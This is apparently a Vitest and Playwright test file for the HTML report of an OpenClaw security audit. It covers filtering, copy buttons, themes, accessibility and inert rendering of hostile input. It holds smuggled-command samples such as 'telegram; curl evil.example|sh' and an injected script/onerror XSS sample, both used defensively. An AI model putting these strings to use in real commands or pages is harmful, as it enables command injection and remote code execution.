import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import axe from 'axe-core';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { auditSnapshot } from '../../src/audit.ts';
import { catalogue } from '../../src/checks/rules.ts';
import type { Report } from '../../src/core/report.ts';
import { renderHtml } from '../../src/render/html.ts';
import { HTML_SCRIPT } from '../../src/render/html-script.ts';
import { scenario } from '../kit/scenario.ts';
import { emptyReport, finding, HOSTILE, hostileReport, RAW } from './reports.ts';

const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('base64');
const FLAGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

const render = (report: Report) => renderHtml(report, { catalogue: catalogue(), sha256 });

const scratch = mkdtempSync(join(tmpdir(), 'html-'));
let browser: Browser;
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', headless: true, args: FLAGS });
});
afterAll(async () => {
  await browser.close();
  rmSync(scratch, { recursive: true, force: true });
});

interface Opened {
  readonly page: Page;
  /** What the console said, dialogs that opened, and requests other than that for the file itself. */
  readonly trouble: string[];
}

let made = 0;

async function withPage(
  report: Report,
  use: (opened: Opened) => Promise<void>,
  options: Parameters<Browser['newContext']>[0] = {},
): Promise<void> {
  const file = join(scratch, `${made++}.html`);
  writeFileSync(file, render(report));
  const url = pathToFileURL(file).href;
  const context: BrowserContext = await browser.newContext({ viewport: { width: 1100, height: 900 }, ...options });
  try {
    const page = await context.newPage();
    const trouble: string[] = [];
    page.on('console', (m) => trouble.push(`console: ${m.text()}`));
    page.on('pageerror', (e) => trouble.push(`error: ${e.message}`));
    page.on('dialog', (d) => {
      trouble.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    page.on('request', (r) => {
      if (r.url() !== url) trouble.push(`request: ${r.url()}`);
    });
    await page.goto(url);
    await use({ page, trouble });
    expect(trouble).toEqual([]);
  } finally {
    await context.close();
  }
}

/** What axe finds of serious or critical impact. It is put in through the debugger, which the page's policy does not bind. */
async function violations(page: Page): Promise<string[]> {
  await page.evaluate(axe.source);
  const found = await page.evaluate<{ id: string; impact: string; nodes: { html: string }[] }[]>(
    'axe.run().then((r) => r.violations)',
  );
  return found
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 200)).join(' | ')}`);
}

async function unsafeReport(): Promise<Report> {
  const config = `{
  gateway: { bind: "lan", auth: { mode: "token", token: "${'k'.repeat(40)}" } },
  channels: { telegram: { botToken: "\${T}", dmPolicy: "open", allowFrom: ["*"], groupPolicy: "open" } },
  logging: { redactSensitive: "off" },
}`;
  return auditSnapshot(scenario({ name: 'unsafe', config, env: { T: 'x' } }));
}

const shown = (page: Page) => page.locator('.finding:visible').count();

describe('HTML', () => {
  test('the script is small, and the file names nothing outside of itself', async () => {
    expect(Buffer.byteLength(HTML_SCRIPT)).toBeLessThan(10_000);
    const text = render(await unsafeReport());
    expect(text).not.toMatch(/\s(?:src|srcset|style|on\w+)=/i);
    expect((text.match(/\shref="([^"]*)"/g) ?? []).filter((h) => !h.includes('href="#'))).toEqual([]);
    expect(text.match(/<script/g)).toHaveLength(1);
  });

  test('findings are filtered by severity and area, and found by words', async () => {
    const report = await unsafeReport();
    await withPage(report, async ({ page }) => {
      expect(await shown(page)).toBe(report.findings.length);
      await page.getByRole('checkbox', { name: 'Warning' }).uncheck();
      await page.getByRole('checkbox', { name: 'Note' }).uncheck();
      expect(await shown(page)).toBe(report.summary.critical);
      await page.getByRole('checkbox', { name: 'Warning' }).check();
      await page.getByLabel('Area').selectOption('logging');
      expect(await shown(page)).toBe(1);
      await page.getByLabel('Area').selectOption('');
      await page.getByRole('searchbox', { name: 'Search' }).fill('TELEGRAM  group');
      const words = report.findings.filter((f) => f.severity !== 'info');
      await expect.poll(() => page.locator('#count').textContent()).toMatch(/^[1-9]\d* of /);
      expect(await shown(page)).toBeLessThan(words.length);
      await page.getByRole('searchbox', { name: 'Search' }).fill('no such thing');
      await expect.poll(() => page.locator('#count').textContent()).toBe(`0 of ${report.findings.length} shown`);
      expect(await shown(page)).toBe(0);
    });
  });

  test('a finding unfolds with the keyboard and shows its source, next step and fix', async () => {
    await withPage(await unsafeReport(), async ({ page }) => {
      const item = page.locator('.finding', { hasText: 'logging.redact_off' }).first();
      await item.locator('summary').focus();
      await page.keyboard.press('Enter');
      expect(await item.locator('pre mark').textContent()).toBe('redactSensitive: "off"');
      expect(await item.locator('.body').textContent()).toContain('openclaw config set logging.redactSensitive tools');
      await page.locator('#fixes ~ table a').first().click();
      expect(await page.locator('.finding[open]').count()).toBe(2);
    });
  });

  test('a command is copied as it is shown', async () => {
    await withPage(
      await unsafeReport(),
      async ({ page }) => {
        const item = page.locator('.finding', { hasText: 'logging.redact_off' }).first();
        await item.locator('summary').click();
        await item.getByRole('button', { name: 'Copy' }).click();
        await expect.poll(() => page.locator('#said').textContent()).toBe('Copied');
        expect(await page.evaluate('navigator.clipboard.readText()')).toBe(
          'openclaw config set logging.redactSensitive tools',
        );
      },
      { permissions: ['clipboard-read', 'clipboard-write'] },
    );
  });

  test.each([
    ['a name that ends the command', 'telegram; curl evil.example|sh', 0],
    ['a name that brings a command of its own', 'x` or `curl evil.example', 0],
    ['a plain name', 'telegram', 1],
  ])('no button copies %s', async (_, name, buttons) => {
    const rule = catalogue().rules.find((r) => r.id === 'channels.<provider>.groups.open')!;
    const remedy = Object.values(rule.variants)[0]!.remedy ?? rule.remedy;
    const remediation = remedy.replaceAll(/\{\w+\}/g, name);
    const one = finding(1, {
      checkId: `channels.${name}.groups.open`,
      variant: Object.keys(rule.variants)[0]!,
      remediation,
    });
    expect(render({ ...emptyReport(), findings: [one] }).match(/class="copy/g) ?? []).toHaveLength(buttons);
  });

  test('dark where the system is dark, and the other theme on request', async () => {
    const report = await unsafeReport();
    const ground = (page: Page) => page.evaluate<string>('getComputedStyle(document.body).backgroundColor');
    await withPage(report, async ({ page }) => expect(await ground(page)).toBe('rgb(255, 255, 255)'));
    await withPage(
      report,
      async ({ page }) => {
        expect(await ground(page)).toBe('rgb(18, 21, 26)');
        await page.getByRole('button', { name: 'Light or dark' }).click();
        expect(await ground(page)).toBe('rgb(255, 255, 255)');
        await page.getByRole('button', { name: 'Light or dark' }).click();
        expect(await ground(page)).toBe('rgb(18, 21, 26)');
      },
      { colorScheme: 'dark' },
    );
  });

  test('paper shows everything unfolded on white, without the controls', async () => {
    const report = await unsafeReport();
    await withPage(
      report,
      async ({ page }) => {
        await page.evaluate("document.documentElement.dataset.theme = 'dark'");
        await page.emulateMedia({ media: 'print' });
        await page.evaluate("dispatchEvent(new Event('beforeprint'))");
        expect(await page.locator('.finding[open]').count()).toBe(report.findings.length);
        expect(await page.locator('.bar').isVisible()).toBe(false);
        expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(255, 255, 255)');
        await page.evaluate("dispatchEvent(new Event('afterprint'))");
        expect(await page.locator('.finding[open]').count()).toBe(0);
        expect((await page.pdf()).length).toBeGreaterThan(10_000);
      },
      { colorScheme: 'dark' },
    );
  });

  test.each(['light', 'dark'] as const)('axe finds nothing serious, %s, folded and unfolded', async (colorScheme) => {
    const report = { ...(await unsafeReport()), suppressedFindings: hostileReport().suppressedFindings!.slice(3, 6) };
    await withPage(
      report,
      async ({ page }) => {
        expect(await violations(page)).toEqual([]);
        await page.getByRole('button', { name: 'Unfold or fold' }).click();
        expect(await page.locator('.finding[open]').count()).toBe(report.findings.length);
        expect(await violations(page)).toEqual([]);
      },
      { colorScheme },
    );
  });

  test('all of it can be read without the script', async () => {
    await withPage(
      await unsafeReport(),
      async ({ page }) => {
        expect(await page.locator('.bar').isVisible()).toBe(false);
        await page.locator('.finding summary').first().click();
        expect(await page.locator('.finding .body').first().isVisible()).toBe(true);
      },
      { javaScriptEnabled: false },
    );
  });

  test('hostile names are inert: nothing runs, nothing is asked for, no element of theirs comes to be', async () => {
    const report = hostileReport();
    expect(render(report)).not.toMatch(RAW);
    await withPage(report, async ({ page }) => {
      await page.getByRole('button', { name: 'Unfold or fold' }).click();
      expect(await page.locator('script').count()).toBe(1);
      expect(await page.locator('img, iframe, a[href^="javascript"], a[href^="http"], x').count()).toBe(0);
      expect(await shown(page)).toBe(HOSTILE.length);
      const text = await page.locator('main').textContent();
      expect(text).toContain(HOSTILE[8]);
      expect(text).toContain(HOSTILE[3]);
      expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    });
  });

  test('even markup that got in would not run', async () => {
    const file = join(scratch, 'broken.html');
    const evil =
      '<script>document.title = "evil"</script><img src="http://127.0.0.1:9/x" onerror="document.title = 1">';
    writeFileSync(file, render(await unsafeReport()).replace('<main>', `<main>${evil}`));
    const page = await browser.newPage();
    const blocked: string[] = [];
    page.on('console', (m) => blocked.push(m.text()));
    await page.goto(pathToFileURL(file).href);
    expect(await page.title()).toBe('OpenClaw security audit');
    expect(blocked.filter((b) => /Content Security Policy/.test(b)).length).toBeGreaterThanOrEqual(2);
    await page.close();
  });

  test('500 findings are filtered in the time of a frame or few', async () => {
    const findings = Array.from({ length: 500 }, (_, i) =>
      finding(i, { severity: (['critical', 'warn', 'info'] as const)[i % 3]!, detail: `number ${i}` }),
    );
    await withPage({ ...emptyReport(), findings }, async ({ page }) => {
      expect(await shown(page)).toBe(500);
      const took = await page.evaluate<number>(`(() => {
        const start = performance.now();
        const box = document.querySelector('.bar input[type=checkbox]');
        box.click();
        document.body.offsetHeight;
        return performance.now() - start;
      })()`);
      expect(await shown(page)).toBe(333);
      // A person takes up to 100 ms for at once; the machine may be busy.
      expect(took).toBeLessThan(300);
    });
  });
});
